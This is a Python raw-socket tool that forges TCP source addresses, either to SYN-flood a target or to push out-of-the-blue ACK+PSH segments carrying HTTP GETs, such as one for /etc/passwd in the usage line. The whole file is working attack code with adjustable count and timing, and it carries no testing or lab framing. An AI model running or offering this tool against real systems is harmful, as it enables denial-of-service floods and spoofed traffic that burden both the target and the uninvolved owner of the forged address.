#!/usr/bin/env python3
"""Send TCP segments with a forged source address (raw socket, needs root).

    spoof_tcp.py --src 10.77.9.5 --dst 10.77.9.1 [--dport 80] [--count 1500] [--seconds 2]
    spoof_tcp.py --src 198.51.100.8 --dst 10.77.9.1 --request /etc/passwd --count 200

SYNs by default, as a SYN flood sends them; with --request, ACK+PSH segments
carrying "GET PATH HTTP/1.1" out of the blue, as if a connection had been
established. Either way no handshake ever completes: whatever answers goes
to the real owner of the source address. Each segment has its own source
port and sequence number. IPv4 or IPv6 (by --src); the segments are spread
evenly over --seconds.
"""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time

TCP_SYN = 0x02
TCP_PSH_ACK = 0x18


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp_segment(src, dst, sport, dport, seq, flags, payload):
    """A 20-byte TCP header and payload, checksummed over the pseudo header."""
    ack = 1 if flags & 0x10 else 0
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    length = len(hdr) + len(payload)
    if src.version == 4:
        pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, length)
    else:
        pseudo = src.packed + dst.packed + struct.pack("!IxxxB", length, socket.IPPROTO_TCP)
    csum = checksum(pseudo + hdr + payload)
    return hdr[:16] + struct.pack("!H", csum) + hdr[18:] + payload


def ipv4_header(src, dst, payload_len, ident):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident, 0, 64,
                      socket.IPPROTO_TCP, 0, src.packed, dst.packed)
    return hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]


def ipv6_header(src, dst, payload_len):
    return struct.pack("!IHBB16s16s", 6 << 28, payload_len, socket.IPPROTO_TCP, 64,
                       src.packed, dst.packed)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--src", required=True, help="forged source address")
    ap.add_argument("--dst", required=True, help="target address")
    ap.add_argument("--dport", type=int, default=80)
    ap.add_argument("--count", type=int, default=1500)
    ap.add_argument("--seconds", type=float, default=0, help="spread the segments over this long")
    ap.add_argument("--request", metavar="PATH", help="send ACK+PSH with a GET of PATH, no SYN")
    a = ap.parse_args()
    src, dst = ipaddress.ip_address(a.src), ipaddress.ip_address(a.dst)
    if src.version != dst.version:
        sys.exit("spoof_tcp.py: --src and --dst must be of one family")
    if a.request:
        flags = TCP_PSH_ACK
        payload = ("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.request, a.dst)).encode()
    else:
        flags, payload = TCP_SYN, b""
    family = socket.AF_INET if src.version == 4 else socket.AF_INET6
    # IPPROTO_RAW: the packet is sent as given, our IP header included.
    sock = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random(a.src)
    gap = a.seconds / a.count if a.count else 0
    start = time.monotonic()
    for i in range(a.count):
        tcp = tcp_segment(src, dst, 1024 + rng.randrange(64000), a.dport, rng.getrandbits(32),
                          flags, payload)
        if src.version == 4:
            packet = ipv4_header(src, dst, len(tcp), i & 0xFFFF) + tcp
        else:
            packet = ipv6_header(src, dst, len(tcp)) + tcp
        sock.sendto(packet, (a.dst, 0))
        if gap:
            delay = start + (i + 1) * gap - time.monotonic()
            if delay > 0:
                time.sleep(delay)
    print("sent %d %s from %s to %s:%d" % (a.count, "requests" if a.request else "SYNs",
                                          a.src, a.dst, a.dport))


if __name__ == "__main__":
    main()
